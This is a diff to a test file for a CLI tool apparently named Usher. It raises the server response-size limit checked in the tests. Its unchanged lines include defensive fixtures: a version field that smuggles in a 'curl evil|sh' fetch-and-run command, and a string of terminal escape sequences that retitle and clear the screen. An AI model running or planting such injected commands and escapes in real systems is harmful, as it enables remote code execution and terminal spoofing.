@@ -270,7 +270,7 @@ it('says what is wrong with a server', async ({ cli, onTestFinished }) => {
     await codeOf(url, [502, '<html>']),
     await codeOf(url, [200, JSON.stringify({ ...console, version: '0.0.1' })]),
     await codeOf(url, [200, JSON.stringify({ ...console, version: 'npm:evil@1; curl evil|sh' })]),
-    await codeOf(url, [200, 'x'.repeat(1_100_000)]),
+    await codeOf(url, [200, 'x'.repeat(4_200_000)]),
     await codeOf('http://127.0.0.1:1'),
   ]).toMatchObject([
     { code: 'usage_error', exitCode: 2 },
@@ -285,7 +285,7 @@ it('says what is wrong with a server', async ({ cli, onTestFinished }) => {
       detail: `${url} is Usher 0.0.1, and this command is ${version}. Run it with: npx @usher/server@0.0.1`,
     },
     { code: 'server_version', detail: `${url} is of an unknown version, and this command is ${version}` },
-    { code: 'server_unreachable', detail: expect.stringContaining('more than 1048576 bytes') },
+    { code: 'server_unreachable', detail: expect.stringContaining('more than 4194304 bytes') },
     { code: 'server_unreachable', exitCode: 5 },
   ])
   const hostile = { code: 'unavailable', detail: 'later\u001b]0;OWNED\u0007\u001b[2J' }
